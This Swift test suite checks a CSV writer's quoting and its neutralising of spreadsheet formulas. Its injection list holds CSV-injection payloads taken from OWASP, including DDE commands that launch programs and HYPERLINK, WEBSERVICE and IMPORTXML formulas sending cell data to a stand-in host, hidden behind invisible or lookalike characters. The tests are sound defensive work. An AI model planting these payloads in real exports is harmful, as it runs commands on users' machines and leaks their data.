// Tables: written as RFC 4180 says, without formulas.
import SeedKit
import Testing

@testable import Board
@testable import Reports

@Suite struct CSVTests {
  private static func written(_ cells: [String], _ separator: CellSeparator = .semicolon) -> String {
    var writer = CSVWriter(separator)
    writer.row(cells)
    return String(decoding: writer.bytes.dropFirst(3), as: UTF8.self)
  }

  @Test("cells are quoted when they have to be") func quotes() {
    #expect(Self.written(["a", "b c", ""]) == "a;b c;\r\n")
    #expect(Self.written(["a;b", "zei \"ja\"", "twee\nregels"]) == "\"a;b\";\"zei \"\"ja\"\"\";\"twee\nregels\"\r\n")
    #expect(Self.written(["a,b", "a;b"], .comma) == "\"a,b\",a;b\r\n")
    #expect(Self.written([" a"]) == "\" a\"\r\n")
    var writer = CSVWriter(.comma)
    writer.row(["é"])
    #expect(writer.bytes.starts(with: [0xEF, 0xBB, 0xBF]))
  }

  @Test(
    "what a spreadsheet would calculate has an apostrophe in front, and import takes off just that one",
    arguments: ["=1+1", "+31", "-2", "@SUM(A1)", "  =1", "\t=1", "\n=1", "\tx", "'=1", "''-1", "=x", " @x"])
  func formulas(_ text: String) {
    #expect(text.inert == "'" + text && text.inert.withoutInertMark == text)
  }

  /// Cells that are known to be calculated, or to hide that they are: the forms of OWASP's page on CSV injection, and what can't be seen before a sign.
  private static let injections: [String] =
    [
      "=1+1", "=1+1\";=1+1", "=1+2';=1+2", "=cmd|' /C calc'!A0", "=cmd|' /C notepad'!'A1'", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=2+5+cmd|' /C calc'!A0", "=10+20+cmd|' /C calc'!A0",
      "=HYPERLINK(\"http://evil.example?x=\"&A1&A2,\"klik\")", "=WEBSERVICE(\"http://evil.example\")",
      "=IMPORTXML(CONCAT(\"http://e.example\",A1),\"//a\")",
      "=rundll32|'URL.dll,OpenURL calc.exe'!A", "=DDE(\"cmd\";\"/C calc\";\"x\")", "\t=1+1", "\r=1+1", "\n=1+1", "\tx", "\rx", "\nx",
      "\u{FF1D}1+1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}SUM(1)", "\u{2212}1", "\u{FE66}1", "\u{FE62}1", "\u{FE63}1", "\u{FE6B}x",
    ]
    + [
      "\u{200B}", "\u{200C}", "\u{200D}", "\u{2060}", "\u{FEFF}", "\u{AD}", "\u{A0}", "\u{3000}", "\u{2003}", "\u{180E}", "\u{200E}",
      "\u{202E}",
      "\u{2066}", "\u{34F}", "\u{FE0F}", "\u{3164}", "\u{FFA0}", "\u{2800}", "\u{E0020}", "\u{1}", " \u{200B} ", "\u{301}",
    ].map { $0 + "=1+1" }

  @Test("what is known to be calculated is not, also behind what can't be seen", arguments: injections) func injection(_ text: String) {
    for text in [text, "'" + text, "''" + text] {
      #expect(Array(text.inert.unicodeScalars) == ["'"] + Array(text.unicodeScalars))
      #expect(Array(text.inert.withoutInertMark.unicodeScalars) == Array(text.unicodeScalars))
    }
  }

  @Test("whatever a text begins with, it comes back from a table scalar by scalar") func inertRoundTrip() {
    var random = Seeded(12)
    let scalars: [Unicode.Scalar] = [
      "'", "'", "=", "-", "@", " ", "\t", "a", "\u{200B}", "\u{200D}", "\u{FE0F}", "\u{301}", "\u{FF1D}", "\u{2800}", "’",
    ]
    for _ in 0..<20_000 {
      let text = (0..<Int.random(in: 0...6, using: &random)).reduce(into: "") { text, _ in
        text.unicodeScalars.append(scalars[Int.random(in: scalars.indices, using: &random)])
      }
      #expect(Array(text.inert.withoutInertMark.unicodeScalars) == Array(text.unicodeScalars), "\(Array(text.unicodeScalars))")
    }
  }

  @Test("other texts stay as they are", arguments: ["", "a", "'s morgens", "''", "1 = 2", "é", "a@b", "👩‍👩‍👧 = leuk"])
  func others(_ text: String) {
    #expect(text.inert == text && text.withoutInertMark == text)
  }

  @Test("control characters can be seen") func controls() {
    #expect(Self.written(["a\u{1B}[2J\u{0}b\u{85}"]) == "a␛[2J␀b�\r\n")
  }

  @Test("a note is a row, with a header in the reader's language") func notes() {
    var sample = Sample()
    sample.note(
      "=HYPERLINK(\"x\")", group: "2", role: "huurder", [Assignment(.level, .text("wijk")), Assignment(.who, .list([.text("gemeente")]))])
    let report = Report(of: sample.board, notes: sample.board.allNotes, language: .en, zone: Zone(secondsFromUTC: 3_600))
    let lines = String(decoding: report.csv(separator: .comma).dropFirst(3), as: UTF8.self).split(separator: "\r\n")
    #expect(lines[0] == "Id,Case,Title of the case,Step,Theme,Term,Text,Group,Perspective,Level,Who,Tags,Stickers,Package,Made,Edited")
    #expect(
      lines[1].hasSuffix(
        ",flat,De flat,interventions,Social management,short term,\"'=HYPERLINK(\"\"x\"\")\",2,tenant,neighbourhood,gemeente,,0,,2026-02-03T11:08:00+01:00,2026-02-03T11:08:00+01:00"
      ))
  }
}
